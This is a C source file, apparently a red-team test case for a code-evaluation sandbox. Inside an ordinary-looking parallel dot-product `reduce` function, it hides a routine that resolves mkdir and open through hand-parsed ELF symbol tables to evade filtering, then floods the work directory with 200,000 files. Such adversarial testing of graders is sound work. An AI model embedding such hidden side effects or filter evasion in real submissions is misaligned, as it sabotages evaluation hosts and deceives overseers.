/* Red team, issue 26 attack 6c: 200,000 files in the work directory.
 *
 * A correct, race-free reduction. Where mkdir is allowed (the unfiltered race-check run), its first call
 * creates 200,000 empty files under mess/ (open O_CREAT and close through the dynamic symbol tables).
 * Against main (e2530a1), local: rejected "race check unavailable: the sanitizer run timed out at 4 threads"
 * after 77 s (a verdict; the cost is the host's).
 * Expected defence: a verdict (any status), never an exception; nothing left under the workroot after close().
 */
#include <elf.h>
#include <link.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

static int streq_(const char *a, const char *b) { while (*a && *a == *b) { a++; b++; } return *a == *b; }
static uintptr_t fix(uintptr_t bias, uintptr_t v) { return v < bias ? v + bias : v; }

static ElfW(Dyn) *image_of(const void *inside, uintptr_t *bias) {
    uintptr_t p = (uintptr_t)inside & ~(uintptr_t)4095;
    for (int i = 0; i < 4096; i++, p -= 4096) {
        if (memcmp((const void *)p, "\177ELF", 4) != 0) continue;
        const ElfW(Ehdr) *eh = (const void *)p;
        const ElfW(Phdr) *ph = (const void *)(p + eh->e_phoff);
        uintptr_t b = 0;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_LOAD && ph[k].p_offset == 0) b = p - ph[k].p_vaddr;
        *bias = b;
        for (int k = 0; k < eh->e_phnum; k++) if (ph[k].p_type == PT_DYNAMIC) return (ElfW(Dyn) *)(b + ph[k].p_vaddr);
        return 0;
    }
    return 0;
}

/* The address of `name` (a function, or with want_object a data object) in the loaded objects, in the
 * dynamic linker's order (the program first), skipping the first `skip` definitions. */
static void *find_symbol(const char *name, int want_object, int skip) {
    uintptr_t bias;
    ElfW(Dyn) *dyn = image_of((const void *)&find_symbol, &bias);
    struct r_debug *rd = 0;
    for (ElfW(Dyn) *d = dyn; d && d->d_tag != DT_NULL; d++) if (d->d_tag == DT_DEBUG) rd = (struct r_debug *)d->d_un.d_ptr;
    for (struct link_map *lm = rd ? rd->r_map : 0; lm; lm = lm->l_next) {
        const ElfW(Sym) *sym = 0; const char *str = 0;
        for (ElfW(Dyn) *d = lm->l_ld; d && d->d_tag != DT_NULL; d++) {
            if (d->d_tag == DT_SYMTAB) sym = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
            else if (d->d_tag == DT_STRTAB) str = (const void *)fix(lm->l_addr, d->d_un.d_ptr);
        }
        if (!sym || !str || (const void *)str <= (const void *)sym) continue;
        size_t nsym = (size_t)((const char *)str - (const char *)sym) / sizeof *sym;
        for (size_t i = 1; i < nsym; i++) {
            int type = ELF64_ST_TYPE(sym[i].st_info);
            if (sym[i].st_shndx == SHN_UNDEF || type != (want_object ? STT_OBJECT : STT_FUNC)) continue;
            if (streq_(str + sym[i].st_name, name) && skip-- <= 0) return (void *)(lm->l_addr + sym[i].st_value);
        }
    }
    return 0;
}

typedef int (*mkdir_fn)(const char *, unsigned);
typedef int (*chdir_fn)(const char *);
typedef int (*chmod_fn)(const char *, unsigned);
typedef int (*open_fn)(const char *, int, ...);
typedef int (*close_fn)(int);

static void make_mess(void) {
    static int done;
    if (done++) return;
    mkdir_fn mk = (mkdir_fn)find_symbol("mkdir", 0, 0);
    chdir_fn cd = (chdir_fn)find_symbol("chdir", 0, 0);
    chmod_fn chm = (chmod_fn)find_symbol("chmod", 0, 0);
    open_fn op = (open_fn)find_symbol("open", 0, 0);
    close_fn cl = (close_fn)find_symbol("close", 0, 0);
    if (!mk || !cd || !chm || !op || !cl) return;
    if (mk("mess", 0755) != 0) return;  /* refused: a filtered run, nothing to do */
    char name[32] = "mess/f";
    for (long i = 0; i < 200000; i++) {
        long v = i; int k = 6; char d[12]; int m = 0;
        do { d[m++] = (char)('0' + v % 10); v /= 10; } while (v);
        while (m) name[k++] = d[--m];
        name[k] = 0;
        int fd = op(name, 01 | 0100, 0644);
        if (fd < 0) break;
        cl(fd);
    }
}

void reduce(long n, const double *restrict x, const double *restrict y, double *restrict result) {
    make_mess();
    double total = 0.0;
#pragma omp parallel for reduction(+ : total)
    for (long i = 0; i < n; i++) total += x[i] * y[i];
    *result = total;
}
